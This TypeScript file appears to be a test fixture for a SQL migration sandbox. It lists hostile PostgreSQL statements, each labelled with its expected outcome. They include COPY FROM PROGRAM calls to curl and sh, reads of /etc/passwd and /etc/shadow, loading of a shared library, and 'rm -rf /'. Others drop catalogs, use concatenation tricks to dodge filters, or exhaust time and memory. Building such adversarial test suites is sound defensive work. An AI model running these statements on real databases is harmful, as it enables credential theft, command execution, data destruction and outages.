/** A statement that a migration could hold, meant to harm, hang or deceive whoever runs it. */
export interface HostileInput {
  readonly name: string;
  readonly sql: () => string;
  /**
   * refused: told by its text, never sent. answered: the server runs or refuses it, and goes on. time, memory: its process is ended for it.
   * killed: for whichever comes first on this machine.
   */
  readonly ends: 'refused' | 'answered' | 'time' | 'memory' | 'killed';
}

function input(ends: HostileInput['ends'], name: string, sql: string | (() => string)): HostileInput {
  return { name, ends, sql: typeof sql === 'string' ? () => sql : sql };
}

export const HOSTILE_INPUTS: readonly HostileInput[] = [
  input('refused', 'rows from the client', 'COPY t FROM STDIN'),
  input('refused', 'rows to the client', 'COPY t TO STDOUT'),
  input('refused', 'rows from a file', "COPY t FROM '/etc/passwd'"),
  input('refused', 'rows to a file', "COPY (SELECT 1) TO '/tmp/x'"),
  input('refused', 'a program that reads', "COPY t FROM PROGRAM 'curl http://example.com'"),
  input('refused', 'a program behind another statement', "SELECT 1; COPY (SELECT 'x') TO PROGRAM 'sh'"),
  input('refused', 'a program in a DO block', "DO $$ BEGIN COPY t FROM PROGRAM 'id'; END $$"),
  input('refused', 'a program in a string of a DO block', "DO $$ BEGIN IF true THEN EXECUTE 'COPY t FROM PROGRAM ''id'''; END IF; END $$"),
  input('refused', 'a program in a block in a block', "DO $$ BEGIN EXECUTE 'DO $x$ BEGIN EXECUTE ''COPY t FROM PROGRAM ''''id''''''; END $x$'; END $$"),
  input('refused', 'a file read', "SELECT pg_read_file('/etc/passwd')"),
  input('refused', 'a file read in a subquery', "CREATE TABLE stolen AS SELECT * FROM (SELECT pg_catalog.pg_read_binary_file('/etc/shadow')) x"),
  input('refused', 'a folder listed', "INSERT INTO t SELECT 1, pg_ls_dir('/')"),
  input('refused', 'a large object from a file', "SELECT lo_import('/etc/passwd')"),
  input('refused', 'a large object to a file', "SELECT lo_export(1, '/tmp/x')"),
  input('refused', 'a library', "LOAD '/tmp/evil.so'"),
  input('refused', 'a function in C', "CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE c"),
  input('refused', 'a channel', 'LISTEN secrets'),
  input('refused', 'a server setting', "ALTER SYSTEM SET archive_command = 'sh'"),
  input('refused', 'settings read anew', 'SELECT pg_reload_conf()'),
  input('refused', 'its own end', 'SELECT pg_terminate_backend(pg_backend_pid())'),
  input('refused', 'a database', 'CREATE DATABASE other'),
  input('refused', 'a tablespace', "CREATE TABLESPACE x LOCATION '/tmp'"),
  input('refused', 'an hour of sleep', 'SELECT pg_sleep(3600)'),
  input('refused', 'sleep in a DO block', 'DO $$ BEGIN PERFORM pg_sleep(3600); END $$'),
  input('refused', 'another server', "SELECT * FROM dblink('host=example.com', 'SELECT 1') AS t(x int)"),
  input('refused', 'a subscription', "CREATE SUBSCRIPTION s CONNECTION 'host=example.com' PUBLICATION p"),
  input('answered', 'an extension that does not exist', 'CREATE EXTENSION evil'),
  input('answered', 'a language', 'CREATE LANGUAGE plpython3u'),
  input('answered', 'an extension that reads files', 'CREATE EXTENSION file_fdw'),
  input('answered', 'a psql command', '\\! rm -rf /'),
  input('answered', 'a NUL byte', "SELECT 'a\0b'"),
  input('answered', 'text that is no SQL', '%%% ]] ;;; \u{1f4a3}'),
  input('answered', 'nothing', ''),
  input('answered', 'a file read that is put together', "DO $$ BEGIN EXECUTE 'SELECT pg_read' || '_file(''/etc/passwd'')'; END $$"),
  input('answered', 'rows to a file, put together', "DO $$ BEGIN EXECUTE 'CO' || 'PY (SELECT 1) TO ''/tmp/belay-was-here'''; END $$"),
  input('answered', 'rows from the client, put together', "DO $$ BEGIN EXECUTE 'CO' || 'PY pg_class FROM STDIN'; END $$"),
  input('answered', 'a commit nobody began', 'COMMIT'),
  input('answered', 'a transaction that is left open', 'BEGIN; CREATE TABLE left_open (id int)'),
  input('answered', 'everything discarded', 'ROLLBACK; DISCARD ALL'),
  input('answered', 'another role', 'SET ROLE nobody'),
  input('answered', 'a lesser self', 'ALTER ROLE CURRENT_USER NOSUPERUSER NOLOGIN; ALTER ROLE CURRENT_USER SUPERUSER'),
  input('answered', 'a session that understands nothing any more', "SET search_path = nowhere; SET client_encoding = 'SQL_ASCII'; SET client_min_messages = error"),
  input('answered', 'no schema', 'DROP SCHEMA public CASCADE'),
  input('answered', 'nothing owned', 'DROP OWNED BY CURRENT_USER CASCADE'),
  input('answered', 'the catalog', 'DROP TABLE pg_catalog.pg_class'),
  input('answered', 'the catalog, row by row', 'CREATE SCHEMA IF NOT EXISTS public; SET search_path = public; DELETE FROM pg_description'),
  input('answered', 'locks that nobody gives back', 'SELECT pg_advisory_lock(g) FROM generate_series(1, 100) g'),
  input('answered', 'a trigger that fires itself', "CREATE TABLE again (id int); CREATE FUNCTION again() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO again VALUES (1); RETURN NEW; END $$; CREATE TRIGGER again AFTER INSERT ON again FOR EACH ROW EXECUTE FUNCTION again(); INSERT INTO again VALUES (1)"),
  input('answered', 'a function that calls itself', 'CREATE FUNCTION f(i int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN f(i + 1); END $$; SELECT f(1)'),
  input('answered', 'a view of itself', 'CREATE RECURSIVE VIEW v (n) AS SELECT 1 UNION SELECT n FROM v; SELECT * FROM v'),
  input('answered', 'five thousand brackets', () => `SELECT ${'('.repeat(5_000)}1${')'.repeat(5_000)}`),
  input('answered', 'ten thousand notices', "DO $$ BEGIN FOR i IN 1..10000 LOOP RAISE NOTICE '%', repeat('x', 1000); END LOOP; END $$"),
  input('answered', 'a literal of 50 MB', () => `SELECT length('${'x'.repeat(50_000_000)}')`),
  input('answered', 'two million rows for nobody', "SELECT repeat('x', 100) FROM generate_series(1, 200000) a, generate_series(1, 10) b"),
  input('answered', 'a name of a megabyte', () => `CREATE TABLE "${'n'.repeat(1_000_000)}" (id int)`),
  input('answered', 'more columns than fit', () => `CREATE TABLE wide (${Array.from({ length: 2_000 }, (_, index) => `c${String(index)} int`).join(', ')})`),
  input('time', 'a loop without end', 'DO $$ BEGIN LOOP END LOOP; END $$'),
  input('time', 'a loop that catches what should end it', 'DO $$ BEGIN LOOP BEGIN RAISE EXCEPTION \'x\'; EXCEPTION WHEN OTHERS THEN NULL; END; END LOOP; END $$'),
  input('time', 'a product of everything', 'SELECT count(*) FROM pg_class a, pg_class b, pg_class c, pg_class d'),
  input('killed', 'a billion numbers', 'SELECT count(*) FROM generate_series(1, 1000000000)'),
  input('killed', 'a recursion that doubles', 'WITH RECURSIVE bomb AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM bomb CROSS JOIN generate_series(1, 2)) SELECT count(*) FROM bomb'),
  input('killed', 'a text of a billion letters', "SELECT repeat('x', 1000000000)"),
  input('killed', 'a billion rows', "CREATE TABLE big AS SELECT repeat('x', 1000) FROM generate_series(1, 1000000000)"),
  input('killed', 'lists of lists', "SELECT array_agg(x) FROM (SELECT array_fill(1, ARRAY[1000, 1000]) AS x FROM generate_series(1, 1000)) y"),
];
